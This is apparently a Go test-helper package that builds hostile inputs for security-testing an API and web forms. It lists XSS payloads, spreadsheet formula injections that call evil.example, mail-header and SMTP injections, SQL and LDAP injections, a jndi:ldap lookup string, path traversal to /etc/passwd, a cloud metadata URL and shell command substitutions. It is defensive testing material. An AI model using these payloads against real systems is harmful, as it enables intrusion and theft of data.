// Package hostile makes the inputs of attacks: texts that programs have choked on,
// and, from the schema of the API and from the routes of the pages, requests that
// carry them to every place which takes an input.
//
// What it makes is the same in every run. It sends nothing: the tests beside the
// program do.
package hostile

import (
	"fmt"
	"strings"
)

// Text is a text to put where somebody may type, and what it tries.
type Text struct{ Kind, Value string }

// Canary is what a script of [Markup] calls if it runs.
const Canary = "xss"

// Markup are the texts that would run a script where they are not escaped: in text,
// in attributes, addresses, scripts and styles.
var Markup = []string{
	`<script>xss(1)</script>`,
	`<img src=x onerror=xss(2)>`,
	`"><svg onload=xss(3)>`,
	`' autofocus onfocus=xss(4) x='`,
	`" autofocus onfocus=xss(5) x="`,
	`javascript:xss(6)`,
	`</title></textarea></style></script><script>xss(7)</script>`,
	`<a href="javascript:xss(8)" hx-get="javascript:xss(9)" hx-trigger=load>x</a>`,
	`<div hx-on:htmx:after-settle="xss(10)" hx-get="/" hx-trigger="load"></div>`,
	`</script><iframe srcdoc="<script>parent.xss(11)</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(12)&gt;">`,
	`<base href="//evil.example/"><form action="//evil.example/"><button>x</button></form>`,
	"`${xss(13)}`",
}

// Formulas are texts that a spreadsheet would run.
var Formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`,
	"\t=1+1", "\r=1+1", `=IMPORTXML("http://evil.example","//a")`, `;=1+1`, `,=1+1`, "\n=1+1", `"=1+1"`, "\uff1d1+1",
}

// LineBreaks are texts that would add lines to a header, a log or a mail.
var LineBreaks = []string{
	"x\r\nBcc: victim@evil.example", "x\nBcc: victim@evil.example", "x\rBcc: victim@evil.example",
	"x\r\n\r\nA body of the attacker's", "x%0d%0aBcc:%20victim@evil.example", "x\u2028Bcc: victim@evil.example", "x\u2029y", "x\u0085Bcc: victim@evil.example",
	"tan@agency.gov.sg\r\nRCPT TO:<victim@evil.example>", "tan@agency.gov.sg>\r\nDATA\r\n", "tan@agency.gov.sg,victim@evil.example",
	"\"tan\"@agency.gov.sg, victim@evil.example", "tan@agency.gov.sg%0abcc:victim@evil.example", "=?utf-8?q?x=0d=0aBcc:_victim@evil.example?=", ".\r\nQUIT\r\n", "x\v\fy",
}

// Texts are all texts, of every kind.
func Texts() []Text {
	var all []Text
	add := func(kind string, values ...string) {
		for _, v := range values {
			all = append(all, Text{kind, v})
		}
	}
	add("emptiness", "", " ", "\t\n", "\u00a0\u2003\u3000", "\u200b\ufeff")
	add("size", strings.Repeat("x", 256), strings.Repeat("é", 65), strings.Repeat("a", 70_000), strings.Repeat("\U0001F600", 256), strings.Repeat("e\u0301", 128), "a"+strings.Repeat("\u0301", 400))
	add("control characters", "a\x00b", "\x00", "\x1b[31mred\x1b[0m", "a\x08b", "\x7f", "\u0080\u009f", "\ufffe\uffff")
	add("encoding", "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "abc\x80", "\xe2\x82")
	add("direction", "\u202egpj.exe", "\u2066x\u2069\u202d", "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627")
	add("look-alikes", "t\u0430n@agency.gov.sg", "tan@agency.gov.s\u0261", "\u0130\u0131\u017f\u212a", "\ufb01\u1e9e", "tan@agency.gov.sg.", "TAN@AGENCY.GOV.SG", "tan@xn--80ak6aa92e.gov.sg", "tan@gov.sg", "tan@techpass.gov.sg", "tan@sub.techpass.gov.sg", "tan@agency.gov.sg@evil.example", "tan@[127.0.0.1]", "\"a b\"@agency.gov.sg", "tan@agency..gov.sg", "@agency.gov.sg", "tan@", "<tan@agency.gov.sg>")
	add("SQL", `' OR '1'='1`, `'; DROP TABLE invitations; --`, `" OR 1=1 --`, `%`, `_`, `\`, `%_\%`, `1 UNION SELECT email FROM officers`, `$1`, `?`, `$$`, `'||pg_sleep(10)||'`, `E'\\x00'`)
	add("LDAP", `*)(uid=*))(|(uid=*`, `admin)(&)`, `\2a\28\29`, `*`)
	add("line breaks", LineBreaks...)
	add("markup", Markup...)
	add("formulas", Formulas...)
	add("templates", `{{.}}`, `{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{% raw %}`, `%s%n%x%d`, `%!s(MISSING)`, `${jndi:ldap://evil.example/a}`)
	add("paths", `../../../../etc/passwd`, `..\..\windows\win.ini`, `/etc/passwd`, `C:\x`, `file:///etc/passwd`, `http://169.254.169.254/latest/meta-data/`, `|id`, "`id`", `$(id)`, `a; id`)
	add("numbers", `0`, `-1`, `9223372036854775808`, `1e309`, `NaN`, `0x10`, `٩١٢٣٤٥٦٧`, `91234567; 81234567`, `+65 9123 4567`, `６５９１２３４５６７`)
	add("JSON", `{"a":1}`, `null`, `[]`, `"`, `\u0000`, `{"__proto__":{"x":1}}`)
	add("days", `2026-02-30`, `0000-00-00`, `9999-12-31`, `99999-01-01`, `-0001-01-01`, `2026-11-23T25:61:61Z`, `31-12-9999`, `2026-11-23T09:30:00+99:99`)
	return all
}

// IDs are identifiers and cursors that were made up.
func IDs() []Text {
	var all []Text
	for _, v := range []string{
		"", "0", "-1", "null", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{019a8f3e-1c2d-7e4f-8a9b-0c1d2e3f4a5b}",
		"urn:uuid:019a8f3e-1c2d-7e4f-8a9b-0c1d2e3f4a5b", "019a8f3e1c2d7e4f8a9b0c1d2e3f4a5b", "019A8F3E-1C2D-7E4F-8A9B-0C1D2E3F4A5B", "019a8f3e-1c2d-7e4f-8a9b-0c1d2e3f4a5",
		"' OR 1=1 --", "../x", "a\x00b", "\xff", "AAAA", "eyJpZCI6MX0=", "W10=", "bnVsbA==", "WyIyMDI2LTAxLTAxVDAwOjAwOjAwWiIsIngiXQ", "====", strings.Repeat("A", 10_000),
	} {
		all = append(all, Text{"forged identifier", v})
	}
	return all
}

// String names a text in the message of a test: what it tries, and how it begins.
func (t Text) String() string {
	v := fmt.Sprintf("%q", t.Value)
	if len(v) > 60 {
		v = v[:60] + "..."
	}
	return t.Kind + " " + v
}
